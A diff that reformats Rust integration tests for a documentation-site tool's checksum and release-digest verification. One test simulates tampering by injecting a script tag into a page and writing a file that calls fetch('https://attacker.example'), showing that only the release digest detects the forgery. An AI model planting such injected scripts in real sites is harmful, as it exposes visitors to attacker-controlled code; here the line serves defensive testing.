@@ -205,20 +205,32 @@ fn rewriting_pages_and_sums_fails_verify_with_the_recorded_release_digest() {
     let (_fx, site, stderr) = built();
     let release = digest_after(&stderr, "release digest ");
     let page = site.join("documents/POL-001.html");
-    let html = fs::read_to_string(&page).expect("page").replace("</main>", "<p>Forged.</p><script src=\"x.js\"></script></main>");
+    let html = fs::read_to_string(&page)
+        .expect("page")
+        .replace("</main>", "<p>Forged.</p><script src=\"x.js\"></script></main>");
     fs::write(&page, html).expect("alter the page");
     fs::write(site.join("documents/x.js"), "<script>fetch('https://attacker.example')</script>").expect("add");
     // Regenerate the list with the real tool, as the attacker would.
-    let script = "find . -type f ! -name SHA256SUMS -printf '%P\\n' | LC_ALL=C sort | xargs -d '\\n' sha256sum > SHA256SUMS";
+    let script =
+        "find . -type f ! -name SHA256SUMS -printf '%P\\n' | LC_ALL=C sort | xargs -d '\\n' sha256sum > SHA256SUMS";
     let ok = Process::new("sh").args(["-c", script]).current_dir(&site).status().expect("sh").success();
     assert!(ok);
-    assert!(Process::new("sha256sum").args(["-c", "SHA256SUMS"]).current_dir(&site).output().expect("run").status.success());
+    assert!(Process::new("sha256sum")
+        .args(["-c", "SHA256SUMS"])
+        .current_dir(&site)
+        .output()
+        .expect("run")
+        .status
+        .success());
     // The list is consistent with itself: only the recorded release digest tells.
     assert_eq!(verify(&site, None).0, 0);
     let (code, out, _) = verify(&site, Some(&release));
     assert_eq!(code, 1, "{out}");
     let forged = sha256sum(&site.join("SHA256SUMS"));
-    assert_eq!(out, format!("invalid: SHA256SUMS: release digest (SHA-256 of SHA256SUMS) is {forged}, expected {release}\n"));
+    assert_eq!(
+        out,
+        format!("invalid: SHA256SUMS: release digest (SHA-256 of SHA256SUMS) is {forged}, expected {release}\n")
+    );
 }
 
 #[test]
@@ -227,7 +239,10 @@ fn the_content_digest_is_not_accepted_as_the_release_digest() {
     let content = digest_after(&stderr, "content digest ");
     let (code, out, _) = verify(&site, Some(&content));
     assert_eq!(code, 1, "{out}");
-    assert!(out.starts_with(&format!("invalid: SHA256SUMS: --digest {content} is this site's content digest")), "{out}");
+    assert!(
+        out.starts_with(&format!("invalid: SHA256SUMS: --digest {content} is this site's content digest")),
+        "{out}"
+    );
     assert!(out.contains("pass the release digest"), "{out}");
     let (code, _, err) = verify(&site, Some("not-a-digest"));
     assert_eq!(code, 2, "{err}");
@@ -248,12 +263,17 @@ fn every_footer_links_the_verify_page_which_explains_both_digests() {
         let p = html.select(&footer).next().unwrap_or_else(|| panic!("{rel} has no digest footer"));
         let text: String = p.text().collect();
         assert!(text.starts_with("Content digest") && text.contains(&content), "{rel}: {text}");
-        let links: Vec<&str> = p.select(&Selector::parse("a").expect("selector")).filter_map(|a| a.value().attr("href")).collect();
+        let links: Vec<&str> =
+            p.select(&Selector::parse("a").expect("selector")).filter_map(|a| a.value().attr("href")).collect();
         assert!(links.contains(&format!("{root}verify.html").as_str()), "{rel}: {links:?}");
     }
     let page = Html::parse_document(&fs::read_to_string(site.join("verify.html")).expect("verify.html"));
-    let code: Vec<String> = page.select(&Selector::parse("main pre code").expect("selector")).map(|c| c.text().collect()).collect();
-    assert_eq!(code, ["sha256sum SHA256SUMS", "sha256sum -c SHA256SUMS", "aimsdoc verify SITE --digest RELEASE-DIGEST"]);
+    let code: Vec<String> =
+        page.select(&Selector::parse("main pre code").expect("selector")).map(|c| c.text().collect()).collect();
+    assert_eq!(
+        code,
+        ["sha256sum SHA256SUMS", "sha256sum -c SHA256SUMS", "aimsdoc verify SITE --digest RELEASE-DIGEST"]
+    );
     let main: String = page.select(&Selector::parse("main").expect("selector")).flat_map(|m| m.text()).collect();
     for needle in ["release digest", "content digest", "out of band", &content] {
         assert!(main.contains(needle), "verify.html lacks {needle:?}");
@@ -288,7 +308,8 @@ fn pack_goes_through_a_fresh_temporary_file_and_its_readme_names_the_release_dig
     let mut archive = zip::ZipArchive::new(fs::File::open(&zip).expect("zip")).expect("valid zip");
     let mut readme = String::new();
     std::io::Read::read_to_string(&mut archive.by_name("README.txt").expect("README.txt"), &mut readme).expect("read");
-    for needle in [&release as &str, "sha256sum SHA256SUMS", "sha256sum -c SHA256SUMS", "aimsdoc verify site --digest"] {
+    for needle in [&release as &str, "sha256sum SHA256SUMS", "sha256sum -c SHA256SUMS", "aimsdoc verify site --digest"]
+    {
         assert!(readme.contains(needle), "README.txt lacks {needle:?}\n{readme}");
     }
     let names: Vec<&str> = archive.file_names().collect();
